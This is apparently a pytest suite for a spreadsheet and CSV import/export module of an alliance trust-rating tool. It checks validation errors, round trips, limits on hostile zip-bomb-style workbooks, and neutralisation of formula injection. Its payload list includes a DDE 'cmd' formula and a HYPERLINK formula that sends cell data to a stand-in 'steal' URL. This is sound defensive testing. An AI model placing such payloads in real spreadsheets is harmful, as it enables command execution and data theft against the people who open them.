"""The interchange format: reading every row, reporting every problem, and a lossless round trip."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from alliance_lens import paths
from alliance_lens.interchange import read_path, validate_data, write_path
from alliance_lens.model import AllianceData, Problem, TrustRating, UserError, ValidationError

HEADERS = {
    "alliances": "alliance_id,name,trust_min,trust_max,language",
    "partners": "alliance_id,partner_id,name,goals_shared_on",
    "sessions": "alliance_id,session_id,date,title,kind",
    "agreements": "alliance_id,agreement_id,title,kind,owner,made_on,due_on,beneficiaries,note",
    "outcomes": "alliance_id,agreement_id,date,status,note",
    "trust_ratings": "alliance_id,session_id,rater,ratee,score,respondent,comment",
}

GOOD = {
    "alliances": ["a1,Alliance one,1,10,nl"],
    "partners": ["a1,p1,Partner één,2024-01-10", "a1,p2,Partner two,", "a1,p3,Partner three,"],
    "sessions": ["a1,s1,2024-01-10,Kick-off,workshop", "a1,s2,2024-03-01,,dialogue"],
    "agreements": [
        'a1,g1,"Deliver, on time",content,p1,2024-01-10,2024-02-01,p2;p3,',
        'a1,g2,Answer e-mail within a day,process,p2,2024-01-10,2024-01-10,,"a note\nover two lines"',
    ],
    "outcomes": ["a1,g1,2024-02-01,kept_late,", "a1,g1,2024-02-02,broken,reopened", "a1,g2,2024-01-10,kept,"],
    "trust_ratings": ["a1,s1,p1,p2,7.5,CEO,", "a1,s1,p2,p1,8,,", "a1,s2,p3,p1,10,,fine"],
}


def write_folder(folder: Path, tables: dict[str, list[str]], *, bom: bool = False) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, lines in tables.items():
        text = "\n".join([HEADERS[name], *lines]) + "\n"
        (folder / f"{name}.csv").write_text(("\ufeff" if bom else "") + text, encoding="utf-8")
    return folder


def problems_of(path: Path, existing: AllianceData | None = None) -> list[Problem]:
    with pytest.raises(ValidationError) as info:
        read_path(path, existing)
    return info.value.problems


def where(problems: list[Problem]) -> set[tuple[str, int | None, str | None]]:
    return {(p.table, p.row, p.column) for p in problems}


def test_a_good_folder_reads_with_proper_dtypes(tmp_path: Path) -> None:
    result = read_path(write_folder(tmp_path / "in", GOOD, bom=True))
    data = result.data
    assert result.warnings == []
    assert list(data.trust_ratings["score"]) == [7.5, 8.0, 10.0]
    assert data.trust_ratings["score"].dtype == "float64"
    assert data.agreements["made_on"].dtype == "datetime64[s]"
    assert data.alliances.iloc[0]["trust_max"] == 10.0 and data.alliances.iloc[0]["language"] == "nl"
    assert data.sessions.iloc[1]["title"] == "" and data.sessions.iloc[1]["kind"] == "dialogue"
    assert pd.isna(data.partners.iloc[1]["goals_shared_on"])
    assert data.partners.iloc[0]["name"] == "Partner één"
    assert data.agreements.iloc[1]["note"] == "a note\nover two lines"
    # outcome history kept in order: the last row is the current status
    assert list(data.outcomes[data.outcomes["agreement_id"] == "g1"]["status"]) == ["kept_late", "broken"]


def test_every_bad_row_is_reported_with_file_line_column_value(tmp_path: Path) -> None:
    bad = {
        **GOOD,
        "partners": [*GOOD["partners"], "a1,p1,Duplicate,"],  # line 5
        "agreements": [
            GOOD["agreements"][0],
            GOOD["agreements"][1],  # its note spans lines 3 and 4, so the next record starts on line 5
            "a1,g3,Late,content,p1,2024-02-01,2024-01-01,,",  # due before made
            "a1,g4,Nobody's,content,nobody,2024-02-01,2024-03-01,p2;ghost,",  # unknown owner
            "a1,g5,To ghosts,content,p1,2024-02-01,2024-03-01,ghost,",  # unknown beneficiary
            "a1,g6,Bad kind,contnet,p1,2024-02-30,2024-03-01,,",  # bad kind, impossible date
        ],
        "outcomes": [*GOOD["outcomes"], "a1,g99,2024-02-01,kept,", "a1,g1,01-02-2024,lost,"],
        "trust_ratings": [
            *GOOD["trust_ratings"],
            "a1,s1,p1,p1,5,,",  # self-rating, line 5
            "a1,s1,p1,p2,11,,",  # outside 1-10
            "a1,s9,p1,p2,3,,",  # unknown session
            "a1,s1,p1,p2,3,5,x,y",  # an unquoted comma decimal in a comment: one value too many, line 8
            "a1,s1,p1,p2,abc,,",
            '"a1",s1,x9,p2,"3,5",,',  # unknown rater and comma decimal, line 10
            "zz,s1,p1,p2,3,,",  # unknown alliance
        ],
    }
    folder = write_folder(tmp_path / "bad", bad)
    (folder / "outcomes.csv").write_text(
        (folder / "outcomes.csv").read_text(encoding="utf-8") + "\n\n", encoding="utf-8"
    )
    found = problems_of(folder)
    expected = {
        ("partners.csv", 5, "partner_id"),
        ("agreements.csv", 5, "due_on"),
        ("agreements.csv", 6, "owner"),
        ("agreements.csv", 7, "beneficiaries"),
        ("agreements.csv", 8, "kind"),
        ("agreements.csv", 8, "made_on"),
        ("outcomes.csv", 5, "agreement_id"),
        ("outcomes.csv", 6, "date"),
        ("outcomes.csv", 6, "status"),
        ("trust_ratings.csv", 5, "ratee"),
        ("trust_ratings.csv", 6, "score"),
        ("trust_ratings.csv", 7, "session_id"),
        ("trust_ratings.csv", 8, None),
        ("trust_ratings.csv", 9, "score"),
        ("trust_ratings.csv", 10, "rater"),
        ("trust_ratings.csv", 10, "score"),
        ("trust_ratings.csv", 11, "alliance_id"),
    }
    assert expected <= where(found), sorted(expected - where(found), key=str)
    by_place = {(p.table, p.row, p.column): p for p in found}
    assert (
        by_place["trust_ratings.csv", 6, "score"].reason == "the trust score 11 is outside this alliance's scale 1–10"
    )
    assert by_place["trust_ratings.csv", 6, "score"].value == 11
    assert "cannot rate itself" in by_place["trust_ratings.csv", 5, "ratee"].reason
    assert "decimal point" in by_place["trust_ratings.csv", 10, "score"].reason
    assert by_place["agreements.csv", 5, "due_on"].reason == "due date 2024-01-01 is before the date made 2024-02-01"
    assert by_place["agreements.csv", 8, "made_on"].value == "2024-02-30"
    assert "'ghost'" in by_place["agreements.csv", 7, "beneficiaries"].reason
    assert "'nobody' is not among the partners of alliance 'a1'" in by_place["agreements.csv", 6, "owner"].reason
    # the message lists them all, one per line
    message = str(ValidationError(found))
    assert "trust_ratings.csv row 6, column score (value 11)" in message


def test_missing_required_column_is_an_error_unknown_column_a_warning(tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "in", GOOD)
    (folder / "sessions.csv").write_text(
        "alliance_id,session_id,when,title,kind,colour\na1,s1,2024-01-10,Kick-off,workshop,red\n", encoding="utf-8"
    )
    found = problems_of(folder)
    assert ("sessions.csv", 1, "date") in where(found)
    assert "required column 'date' is missing" in found[0].reason

    (folder / "sessions.csv").write_text(
        "kind,colour,date,session_id,alliance_id\nworkshop,red,2024-01-10,s1,a1\ndialogue,,2024-03-01,s2,a1\n",
        encoding="utf-8",
    )
    result = read_path(folder)  # columns in any order
    assert [(w.table, w.column, w.severity) for w in result.warnings] == [("sessions.csv", "colour", "warning")]
    assert list(result.data.sessions["kind"]) == ["workshop", "dialogue"]


def test_trust_scale_bounds_come_together(tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "in", {**GOOD, "alliances": ["a1,Alliance one,,10,en"]})
    found = problems_of(folder)
    assert ("alliances.csv", 2, "trust_min") in where(found)
    assert "together" in found[0].reason
    folder = write_folder(tmp_path / "in2", {**GOOD, "alliances": ["a1,Alliance one,,,"]})
    found = problems_of(folder)  # default scale 1-5: the ratings 7.5, 8 and 10 are now outside it
    assert {p.row for p in found if p.column == "score"} == {2, 3, 4}


def test_files_without_alliances_add_to_the_workspace_and_are_checked_against_it(tmp_path: Path) -> None:
    existing = read_path(write_folder(tmp_path / "base", GOOD)).data
    more = {
        "sessions": ["a1,s3,2024-05-01,Third,meeting"],
        "trust_ratings": ["a1,s3,p1,p2,6,,", "a1,s2,p2,p3,6,,"],
        "outcomes": ["a1,g2,2024-05-01,dropped,"],
    }
    folder = write_folder(tmp_path / "more", more)
    data = read_path(folder, existing).data
    assert len(data.trust_ratings) == 2 and data.alliances.empty
    # without the workspace the references cannot be resolved
    assert ("trust_ratings.csv", 2, "alliance_id") in where(problems_of(folder))
    # a session id the workspace already has is refused
    clash = write_folder(tmp_path / "clash", {"sessions": ["a1,s1,2024-05-01,Again,meeting"]})
    (p,) = problems_of(clash, existing)
    assert (p.table, p.row, p.column) == ("sessions.csv", 2, "session_id")
    assert "already exists in alliance 'a1' in the workspace" in p.reason


def test_not_a_format_folder_or_file_is_a_clear_user_error(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(UserError, match="none of the format's files"):
        read_path(tmp_path / "empty")
    (tmp_path / "notes.txt").write_text("hello", encoding="utf-8")
    with pytest.raises(UserError, match="neither a folder"):
        read_path(tmp_path / "notes.txt")
    (tmp_path / "broken.xlsx").write_bytes(b"not a zip")
    with pytest.raises(UserError, match=r"cannot be read as an \.xlsx workbook"):
        read_path(tmp_path / "broken.xlsx")
    folder = write_folder(tmp_path / "semicolons", GOOD)
    (folder / "sessions.csv").write_text("alliance_id;session_id;date\na1;s1;2024-01-10\n", encoding="utf-8")
    (p,) = [p for p in problems_of(folder) if p.table == "sessions.csv"]
    assert p.row == 1 and "separated by ';'" in p.reason
    folder = write_folder(tmp_path / "latin1", GOOD)
    (folder / "partners.csv").write_bytes("alliance_id,partner_id,name\na1,p1,Caf\xe9\n".encode("latin-1"))
    found = problems_of(folder)
    assert found[0].table == "partners.csv" and "UTF-8" in found[0].reason


def test_round_trip_of_the_sample_through_csv_and_xlsx_is_lossless(tmp_path: Path) -> None:
    sample = read_path(paths.sample_data_dir()).data
    assert len(sample.alliances) == 1 and len(sample.trust_ratings) > 100
    write_path(sample, tmp_path / "out")
    write_path(sample, tmp_path / "out.xlsx")
    assert read_path(tmp_path / "out").data.equals(sample)
    assert read_path(tmp_path / "out.xlsx").data.equals(sample)
    # the workbook is a real one: openpyxl (and so Excel and pandas) reads the same cells
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert book.sheetnames == list(HEADERS)
    first = [c.value for c in book["agreements"][2]]
    assert isinstance(first[5], dt.datetime) and first[4] == sample.agreements.iloc[0]["owner"]


def test_tricky_text_survives_the_round_trip(tmp_path: Path) -> None:
    texts = ['=SUM(A1) "quoted", comma', "  spaces kept  ", "Ĳsselmeer café — ✓", "line\r\nbreak", "tab\there", "&<>"]
    data = read_path(write_folder(tmp_path / "in", GOOD)).data
    data.agreements.loc[:, "note"] = [texts[0], texts[1]]
    data.trust_ratings.loc[:, "comment"] = texts[2:5]
    data.sessions.loc[:, "title"] = [texts[5], ""]
    assert validate_data(data) == []
    for target in (tmp_path / "out", tmp_path / "out.xlsx"):
        write_path(data, target)
        back = read_path(target).data
        assert back.equals(data), target
        assert back.agreements.iloc[0]["note"] == texts[0]


def test_workbook_cells_may_be_text_numbers_or_dates(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.remove(book.active)
    rows: dict[str, list[list[object]]] = {
        "alliances": [["alliance_id", "name", "trust_min", "trust_max"], ["a1", "One", 1, 10]],
        "partners": [["alliance_id", "partner_id", "name"], ["a1", 101, "Numbered"], ["a1", "p2", "Two"]],
        "sessions": [
            ["alliance_id", "session_id", "date", "kind"],
            ["a1", "s1", dt.datetime(2024, 1, 10), "meeting"],
            ["a1", "s2", "2024-02-10", "dialogue"],
            [None, None, None, None],  # an empty row is skipped, numbering goes on
            ["a1", "s3", 45361, "meeting"],  # a date cell that lost its format: an Excel serial (2024-03-10)
        ],
        "trust_ratings": [
            ["alliance_id", "session_id", "rater", "ratee", "score"],
            ["a1", "s1", 101, "p2", 7.25],
            ["a1", "s2", "p2", "101", "8"],
            ["a1", "s3", "p2", "101", 12],  # row 4: outside the scale
            ["a1", "s3", "p2", "101", dt.datetime(2024, 1, 1)],  # row 5: a date is not a score
        ],
    }
    for name, content in rows.items():
        sheet = book.create_sheet(name)
        for r in content:
            sheet.append(r)
    book.save(tmp_path / "in.xlsx")
    found = problems_of(tmp_path / "in.xlsx")
    assert where(found) == {("trust_ratings", 4, "score"), ("trust_ratings", 5, "score")}

    book["trust_ratings"].delete_rows(4, amount=2)
    book.save(tmp_path / "in.xlsx")
    data = read_path(tmp_path / "in.xlsx").data
    assert list(data.partners["partner_id"]) == ["101", "p2"]
    assert list(data.sessions["date"].dt.strftime("%Y-%m-%d")) == ["2024-01-10", "2024-02-10", "2024-03-10"]
    assert list(data.trust_ratings["score"]) == [7.25, 8.0]
    assert list(data.trust_ratings["rater"]) == ["101", "p2"]


def test_a_number_in_a_date_column_of_a_workbook_is_reported_by_row(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "sessions"
    sheet.append(["alliance_id", "session_id", "date"])
    sheet.append(["a1", "s9", 2024])
    book.save(tmp_path / "in.xlsx")
    found = problems_of(tmp_path / "in.xlsx", read_path(write_folder(tmp_path / "base", GOOD)).data)
    assert [(p.table, p.row, p.column) for p in found] == [("sessions", 2, "date")]
    assert "a number, not a date" in found[0].reason


def test_validate_data_checks_typed_entries_against_the_workspace(tmp_path: Path) -> None:
    existing = read_path(write_folder(tmp_path / "base", GOOD)).data
    new = AllianceData.from_entities(
        [
            TrustRating("a1", "s1", "p1", "p3", 9.5),
            TrustRating("a1", "s1", "p1", "nobody", 3),
            TrustRating("a1", "s1", "p1", "p2", 0.5),
        ]
    )
    found = validate_data(new, existing)
    assert [(p.table, p.row, p.column) for p in found] == [("trust_ratings", 2, "ratee"), ("trust_ratings", 3, "score")]
    assert found[0].reason == "the rated partner 'nobody' is not among the partners of alliance 'a1'"


def _handmade_workbook(path: Path, sheet_xml: str, shared: str = "", date1904: bool = False) -> Path:
    """A minimal workbook as other programs write it, with one sheet named ``trust_ratings``."""
    import zipfile

    ns = 'xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr(  # every program writes the package's root relationship; calamine needs it to see a workbook
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="xl/workbook.xml" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument"/></Relationships>',
        )
        z.writestr(
            "xl/workbook.xml",
            f'<x:workbook {ns} {rel}><x:workbookPr date1904="{int(date1904)}"/>'
            '<x:sheets><x:sheet name="trust_ratings" sheetId="1" r:id="rId1"/></x:sheets></x:workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="worksheet" Target="/xl/worksheets/sheet1.xml"/></Relationships>',
        )
        if shared:
            z.writestr("xl/sharedStrings.xml", f"<x:sst {ns}>{shared}</x:sst>")
        z.writestr(
            "xl/worksheets/sheet1.xml", f"<x:worksheet {ns}><x:sheetData>{sheet_xml}</x:sheetData></x:worksheet>"
        )
    return path


def test_workbooks_from_other_programs_are_read_cell_by_cell(tmp_path: Path) -> None:
    from alliance_lens.xlsx_io import Workbook

    header = "".join(
        f'<x:c t="inlineStr"><x:is><x:t>{h}</x:t></x:is></x:c>' for h in HEADERS["trust_ratings"].split(",")
    )
    shared = (
        "<x:si><x:t>a1</x:t></x:si>"
        "<x:si><x:r><x:t>s</x:t></x:r><x:r><x:rPr><x:b/></x:rPr><x:t>1</x:t></x:r><x:rPh><x:t>ignored</x:t></x:rPh></x:si>"
        '<x:si><x:t xml:space="preserve"> kept &amp; spaced </x:t></x:si>'
    )
    row = (
        '<x:row r="4">'  # rows 2 and 3 are missing: the numbering follows the sheet
        '<x:c t="s"><x:v>0</x:v></x:c><x:c t="s"><x:v>1</x:v></x:c>'
        '<x:c t="str"><x:f>LOWER("P1")</x:f><x:v>p1</x:v></x:c><x:c t="inlineStr"><x:is><x:t>p2</x:t></x:is></x:c>'
        '<x:c><x:v>7.5E0</x:v></x:c><x:c t="s"><x:v>2</x:v></x:c>'
        '<x:c r="G4" t="b"><x:v>1</x:v></x:c></x:row>'
    )
    path = _handmade_workbook(tmp_path / "other.xlsx", f'<x:row r="1">{header}</x:row>{row}', shared)
    book = Workbook(path)
    rows = list(book.rows("trust_ratings"))
    book.close()
    assert rows[1] == (4, ["a1", "s1", "p1", "p2", 7.5, " kept & spaced ", True])

    base = read_path(write_folder(tmp_path / "base", GOOD)).data
    data = read_path(path, base).data
    assert list(data.trust_ratings.iloc[0]) == ["a1", "s1", "p1", "p2", 7.5, " kept & spaced ", "TRUE"]


# ---------------------------------------------------------------------------------------------- hostile files

_PARTNER_HEADER = (
    '<x:row r="1"><x:c r="A1" t="inlineStr"><x:is><x:t>alliance_id</x:t></x:is></x:c>'
    '<x:c r="B1" t="inlineStr"><x:is><x:t>partner_id</x:t></x:is></x:c>'
    '<x:c r="C1" t="inlineStr"><x:is><x:t>name</x:t></x:is></x:c></x:row>'
)


def _lie_about_size(path: Path, part: str, size: int) -> None:
    """Make the zip directory (and local header) of ``part`` declare ``size`` bytes uncompressed."""
    import struct
    import zipfile

    raw = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as z:
        info = z.getinfo(part)
    struct.pack_into("<L", raw, info.header_offset + 22, size)
    central = raw.find(b"PK\x01\x02", info.header_offset + 30)
    while raw[central + 46 : central + 46 + len(part)] != part.encode():
        central = raw.find(b"PK\x01\x02", central + 4)
    struct.pack_into("<L", raw, central + 24, size)
    path.write_bytes(bytes(raw))


HOSTILE = {
    # name: (sheet XML after the header row, shared strings, fragments the message must hold)
    "far column": ('<x:row r="2"><x:c r="ZZZZZZ2"><x:v>1</x:v></x:c></x:row>', "", ("column ZZZZZZ", "200 columns")),
    "farther column": ('<x:row r="2"><x:c r="ZZZZZZZ2"><x:v>1</x:v></x:c></x:row>', "", ("file_max_columns",)),
    "last row": ('<x:row r="1048576"><x:c r="A1048576"><x:v>1</x:v></x:c></x:row>', "", ("row 1048576", "500000")),
    "row beyond any": (
        '<x:row r="2"><x:c r="A99999999999999999999"><x:v>1</x:v></x:c></x:row>',
        "",
        ("file_max_rows",),
    ),
    "wide and long": ('<x:row r="300000"><x:c r="Z300000"><x:v>1</x:v></x:c></x:row>', "", ("7800000 cells",)),
    "cells without references": ("<x:row>" + "<x:c><x:v>1</x:v></x:c>" * 300 + "</x:row>", "", ("file_max_columns",)),
    "announced strings": ("", '<x:sst count="2000000000" uniqueCount="2000000000"/>', ("2000000000 items",)),
    "zip bomb": ("<x:row r='2'>" + " " * 5_000_000 + "</x:row>", "", ("file_max_ratio",)),
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_a_hostile_workbook_is_refused_naming_the_limit_before_it_is_inflated(tmp_path: Path, case: str) -> None:
    import time

    rows, shared, fragments = HOSTILE[case]
    path = _handmade_workbook(tmp_path / "hostile.xlsx", _PARTNER_HEADER + rows, shared)
    start = time.perf_counter()
    with pytest.raises(UserError) as info:
        read_path(path)
    assert time.perf_counter() - start < 5
    message = str(info.value)
    assert message.startswith(f"{path} cannot be read as an .xlsx workbook: ")
    for fragment in fragments:
        assert fragment in message, message


def test_a_part_larger_than_it_says_is_refused(tmp_path: Path) -> None:
    path = _handmade_workbook(tmp_path / "lies.xlsx", _PARTNER_HEADER)
    _lie_about_size(path, "xl/worksheets/sheet1.xml", 40)
    with pytest.raises(UserError, match="holds more than the 40 bytes it declares"):
        read_path(path)


@pytest.mark.parametrize(
    ("setting", "value", "fragment"),
    [
        ("ALLIANCE_LENS_FILE_MAX_BYTES", "1000", "the limit is 1000 bytes (setting file_max_bytes)"),
        ("ALLIANCE_LENS_FILE_MAX_INFLATED", "5000", "the limit is 5000 bytes (setting file_max_inflated)"),
        ("ALLIANCE_LENS_FILE_MAX_PARTS", "3", "the limit is 3 (setting file_max_parts)"),
        ("ALLIANCE_LENS_FILE_MAX_ROWS", "3", "sheet 'partners' reaches row 4; the limit is 3 rows"),
    ],
)
def test_each_limit_is_a_setting(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, setting: str, value: str, fragment: str
) -> None:
    from alliance_lens.config import reset_settings

    path = tmp_path / "good.xlsx"
    write_path(read_path(write_folder(tmp_path / "in", GOOD)).data, path)
    monkeypatch.setenv(setting, value)
    reset_settings()
    try:
        with pytest.raises(UserError, match=re.escape(fragment)):
            read_path(path)
    finally:
        monkeypatch.delenv(setting)
        reset_settings()
    assert len(read_path(path).data.partners) == 3


def test_not_a_zip_and_an_encrypted_part_are_clear_messages(tmp_path: Path) -> None:
    junk = tmp_path / "junk.xlsx"
    junk.write_bytes(b"PK\x03\x04 this is not really a zip" * 10)
    with pytest.raises(UserError, match="not a zip archive"):
        read_path(junk)
    path = _handmade_workbook(tmp_path / "locked.xlsx", _PARTNER_HEADER)
    raw = bytearray(path.read_bytes())
    central = raw.find(b"PK\x01\x02")
    raw[central + 8] |= 1  # the "encrypted" flag of the first part
    path.write_bytes(bytes(raw))
    with pytest.raises(UserError, match="is encrypted"):
        read_path(path)


def test_the_writer_stores_each_text_once_in_a_shared_string_table(tmp_path: Path) -> None:
    import zipfile

    data = read_path(write_folder(tmp_path / "in", GOOD)).data
    write_path(data, tmp_path / "out.xlsx")
    with zipfile.ZipFile(tmp_path / "out.xlsx") as z:
        sheet = z.read("xl/worksheets/sheet6.xml").decode()
        strings = z.read("xl/sharedStrings.xml").decode()
    # 7 header cells; 5, 4 and 5 text cells in the three ratings (ids, and a respondent or a comment)
    assert "inlineStr" not in sheet and sheet.count('t="s"') == 7 + 5 + 4 + 5
    assert strings.count("<si>") == len(set(re.findall(r"<si>(.*?)</si>", strings, re.S)))  # each text once
    assert strings.count(">a1<") == 1
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert [c.value for c in book["trust_ratings"][2]] == ["a1", "s1", "p1", "p2", 7.5, "CEO", None]


# ---------------------------------------------------------------------------------------------- CSV safety

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/steal?x="&A1,"click")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "'=already quoted once",
    "''+quoted twice",
    "'just an apostrophe",
]


def test_the_csv_export_neutralises_formulas_and_reads_them_back_unchanged(tmp_path: Path) -> None:
    import csv

    data = read_path(write_folder(tmp_path / "in", GOOD)).data
    data.alliances.loc[:, ["trust_min", "trust_max"]] = [-5.0, 5.0]  # negative numbers are numbers: untouched
    data.trust_ratings.loc[:, "score"] = [-2.5, 0.0, 5.0]
    data.trust_ratings.loc[:, "comment"] = FORMULAS[:3]
    data.trust_ratings.loc[:, "respondent"] = FORMULAS[3:6]
    data.agreements.loc[:, "note"] = FORMULAS[6:8]
    data.sessions.loc[:, "title"] = FORMULAS[8:10]
    assert validate_data(data) == []
    out = write_path(data, tmp_path / "out")
    with open(out / "trust_ratings.csv", encoding="utf-8", newline="") as fh:
        ratings = list(csv.DictReader(fh))
    assert [r["comment"] for r in ratings] == ["'" + f for f in FORMULAS[:3]]
    assert [r["respondent"] for r in ratings] == ["'+1+1", "'-2+3", "'\tstarts with a tab"]
    assert [r["score"] for r in ratings] == ["-2.5", "0", "5"]
    with open(out / "sessions.csv", encoding="utf-8", newline="") as fh:
        assert [r["title"] for r in csv.DictReader(fh)] == ["'''+quoted twice", "'just an apostrophe"]
    with open(out / "alliances.csv", encoding="utf-8", newline="") as fh:
        assert [(r["trust_min"], r["trust_max"]) for r in csv.DictReader(fh)] == [("-5", "5")]
    # no cell of the export starts with what a spreadsheet would run
    for file in out.glob("*.csv"):
        with open(file, encoding="utf-8", newline="") as fh:
            text_cells = [c for row in list(csv.reader(fh))[1:] for c in row if not re.fullmatch(r"-?[\d.]+", c)]
        assert not [c for c in text_cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], file
    back = read_path(out).data
    assert back.equals(data)
    assert list(back.trust_ratings["comment"]) == FORMULAS[:3]
    assert list(back.sessions["title"]) == FORMULAS[8:10]


def test_an_unterminated_quote_at_the_end_is_an_error_naming_its_line(tmp_path: Path) -> None:
    tables = dict(GOOD, trust_ratings=[*GOOD["trust_ratings"], 'a1,s2,p1,p2,6,,"never closed'])
    found = problems_of(write_folder(tmp_path / "in", tables))
    assert [(p.table, p.row) for p in found] == [("trust_ratings.csv", 5)]
    assert found[0].reason == 'a quoted value that starts on line 5 is never closed (a " is missing)'


def test_one_invalid_utf8_byte_is_one_problem_with_its_line(tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "in", GOOD)
    raw = (folder / "partners.csv").read_bytes().replace("één".encode(), b"\xe9\xe9n")  # Latin-1, not UTF-8
    (folder / "partners.csv").write_bytes(raw)
    found = problems_of(folder)
    assert [(p.table, p.row, p.column) for p in found] == [("partners.csv", 2, None)]
    assert found[0].reason == "is not UTF-8 text: byte 0xE9 at line 2 (save it as 'CSV UTF-8')"


def test_a_double_byte_order_mark_reads_fine_with_a_warning(tmp_path: Path) -> None:
    folder = write_folder(tmp_path / "in", GOOD, bom=True)
    (folder / "sessions.csv").write_bytes(b"\xef\xbb\xbf" + (folder / "sessions.csv").read_bytes())
    result = read_path(folder)
    assert len(result.data.sessions) == 2
    assert [(w.table, w.row) for w in result.warnings] == [("sessions.csv", 1)]
    assert "byte-order mark twice" in result.warnings[0].reason


def test_an_unreadable_csv_file_is_a_clear_message(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    folder = write_folder(tmp_path / "in", GOOD)
    real = Path.read_bytes

    def failing(self: Path) -> bytes:
        if self.name == "partners.csv":
            raise OSError(errno.EIO, "Input/output error")
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", failing)
    with pytest.raises(UserError) as info:
        read_path(folder)
    assert str(info.value) == f"{folder / 'partners.csv'} cannot be read: Input/output error"


# ---------------------------------------------------------------------------------------------- .xls and .ods


def _cells(data: AllianceData) -> dict[str, tuple[list[str], list[list[object]]]]:
    """Each table as (header, rows of cells): text as text, numbers as numbers, dates as dates, absent as None."""
    out: dict[str, tuple[list[str], list[list[object]]]] = {}
    for name, frame in data.tables().items():
        rows = [
            [None if pd.isna(v) or v == "" else v.date() if isinstance(v, pd.Timestamp) else v for v in row]
            for row in frame.itertuples(index=False)
        ]
        out[name] = (list(frame.columns), rows)
    return out


def _write_xls(path: Path, sheets: dict[str, tuple[list[str], list[list[object]]]]) -> Path:
    """An Excel 97–2003 workbook, written by xlwt (dates as date cells, as Excel keeps them)."""
    import xlwt

    book = xlwt.Workbook()
    date = xlwt.easyxf(num_format_str="YYYY-MM-DD")
    for name, (header, rows) in sheets.items():
        sheet = book.add_sheet(name)
        for j, h in enumerate(header):
            sheet.write(0, j, h)
        for i, row in enumerate(rows, start=1):
            for j, v in enumerate(row):
                if isinstance(v, dt.date):
                    sheet.write(i, j, v, date)
                elif v is not None:
                    sheet.write(i, j, v)
    book.save(str(path))
    return path


_ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def _ods_cell(v: object) -> str:
    from xml.sax.saxutils import escape

    if v is None:
        return "<table:table-cell/>"
    if isinstance(v, dt.date):
        typed = f'office:value-type="date" office:date-value="{v.isoformat()}"'
        return f"<table:table-cell {typed}><text:p>{v}</text:p></table:table-cell>"
    if isinstance(v, float | int):
        typed = f'office:value-type="float" office:value="{v}"'
        return f"<table:table-cell {typed}><text:p>{v}</text:p></table:table-cell>"
    lines = "".join(f"<text:p>{escape(line)}</text:p>" for line in str(v).split("\n"))
    return f'<table:table-cell office:value-type="string">{lines}</table:table-cell>'


def _write_ods(path: Path, tables: dict[str, str]) -> Path:
    """An OpenDocument spreadsheet as LibreOffice lays one out: a zip with ``mimetype`` first and ``content.xml``."""
    import zipfile

    body = "".join(f'<table:table table:name="{name}">{rows}</table:table>' for name, rows in tables.items())
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODS_NS} office:version="1.3">'
        f"<office:body><office:spreadsheet>{body}</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", content)
        z.writestr("META-INF/manifest.xml", manifest)
    return path


def _ods_rows(header: list[str], rows: list[list[object]]) -> str:
    every: list[list[object]] = [list(header), *rows]
    return "".join(
        "<table:table-row>" + "".join(_ods_cell(v) for v in row) + "</table:table-row>" for row in every
    ) + (  # the empty rest of the sheet, as LibreOffice writes it
        '<table:table-row table:number-rows-repeated="1048570">'
        '<table:table-cell table:number-columns-repeated="1024"/></table:table-row>'
    )


def test_xls_and_ods_workbooks_read_as_the_xlsx_does(tmp_path: Path) -> None:
    data = read_path(write_folder(tmp_path / "in", GOOD)).data
    sheets = _cells(data)
    xls = _write_xls(tmp_path / "good.xls", sheets)
    ods = _write_ods(tmp_path / "good.ods", {name: _ods_rows(header, rows) for name, (header, rows) in sheets.items()})
    assert read_path(xls).data.equals(data)
    assert read_path(ods).data.equals(data)
    assert read_path(ods).data.agreements["note"].iloc[1] == "a note\nover two lines"


def test_a_bad_row_in_an_xls_is_reported_by_sheet_row_and_column(tmp_path: Path) -> None:
    sheets = _cells(read_path(write_folder(tmp_path / "in", GOOD)).data)
    rows = sheets["trust_ratings"][1]
